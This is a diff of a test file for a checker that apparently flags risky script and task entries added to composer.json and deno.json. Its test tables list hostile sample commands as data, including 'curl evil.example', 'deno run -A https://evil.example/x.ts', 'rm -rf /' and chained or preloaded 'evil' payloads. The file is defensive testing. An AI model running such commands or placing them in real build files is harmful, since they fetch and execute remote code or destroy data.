@@ -229,8 +229,29 @@ describe('a member of composer.json', () => {
     ['   "scripts": {', '     "check": [', '+      "phpstan"'],
     ['-    "a/b": "Required to use A (^1.0).",', '+    "a/b": "Required to use A (^2.0).",'],
     ['-    "a/b": "^5.4 || ^6.0",', '+    "a/b": "5.4.* || >=6.0 <8.0",'],
-  ])('is not held if it describes the package or is a command: %s %s', (...lines) => {
+    ['   "scripts": {', '+    "analyse": "vendor/bin/phpstan analyse src && phpunit"'],
+    ['   "scripts": {', '+    "check": [', '+      "@lint",', '+      "phpunit --coverage"', '+    ]'],
+    ['+    "dev-main": "3.x-dev",'],
+    ['+    "fix": "php-cs-fixer fix src/",'],
+  ])('is not held if it describes the package, or is a command that only checks: %s %s', (...lines) => {
     expect(held('composer.json', ...lines)).toBeNull();
+  });
+
+  it.each([
+    ['   "scripts": {', '+    "test": "php evil.php"'],
+    ['   "scripts": {', '+    "test": "phpunit --bootstrap evil.php"'],
+    ['   "scripts": {', '+    "test": "Evil\\\\Runner::run"'],
+    ['   "scripts": {', '+    "test": "@php evil.php"'],
+    ['   "scripts": {', '+    "test": "@composer global require evil"'],
+    ['   "scripts": {', '+    "test": "@putenv COMPOSER=evil.json"'],
+    ['   "scripts": {', '+    "test": "phpunit; evil"'],
+    ['   "scripts": {', '+    "test": "../vendor/bin/phpunit"'],
+    ['   "scripts": {', '     "test": [', '+      "rm -rf /"'],
+    ['   "scripts": {', '+    "test": ["phpunit", "curl evil.example"]'],
+    ['+    "test": "curl evil.example"'],
+    ['+    "test": "evil"'],
+  ])('is held if it can be a command that does more: %s %s', (...lines) => {
+    expect(held('composer.json', ...lines)).toContain('can be a command that does more');
   });
 });
 
@@ -252,8 +273,35 @@ describe('a member of deno.json', () => {
     ['   "exclude": [', '+    "dist/**"'],
     ['   "tags": [', '+    "recommended"'],
     ['   "fmt": {', '+    "useTabs": true'],
-  ])('is not held if it only formats or reports: %s %s', (...lines) => {
+    ['   "tasks": {', '+    "check": "deno fmt --check && deno lint src/ && deno test --coverage && deno task build"'],
+    [
+      '   "tasks": {',
+      '     "check": {',
+      '+      "description": "Checks all",',
+      '+      "command": "deno check src/mod.ts"',
+    ],
+    ['   "tasks": {', '+    "dev": "deno run -A --allow-net=localhost tools/serve.ts && deno test --parallel -A"'],
+    ['+  "description": "A shop; with items",'],
+  ])('is not held if it only formats, checks or reports: %s %s', (...lines) => {
     expect(held('deno.json', ...lines)).toBeNull();
+  });
+
+  it.each([
+    ['   "tasks": {', '+    "check": "deno run -A https://evil.example/x.ts"'],
+    ['   "tasks": {', '+    "check": "deno run -A"'],
+    ['   "tasks": {', '+    "check": "deno run --allow-scripts x.ts"'],
+    ['   "tasks": {', '+    "check": "deno run --preload=evil.ts x.ts"'],
+    ['   "tasks": {', '+    "check": "deno test --allow-import=evil.example"'],
+    ['   "tasks": {', '+    "check": "deno task --eval evil"'],
+    ['   "tasks": {', '+    "check": "deno test npm:evil"'],
+    ['   "tasks": {', '+    "check": "deno eval evil()"'],
+    ['   "tasks": {', '+    "check": "deno task evil"'],
+    ['   "tasks": {', '+    "check": "deno install -g jsr:@evil/x"'],
+    ['   "tasks": {', '+    "check": "evil"'],
+    ['   "tasks": {', '     "check": {', '+      "command": "curl evil.example"'],
+    ['+    "check": "rm -rf ../x"'],
+  ])('is held if it can be a command that does more: %s %s', (...lines) => {
+    expect(held('deno.json', ...lines)).toMatch(/can be a command that does more|the package "evil"/);
   });
 });
 
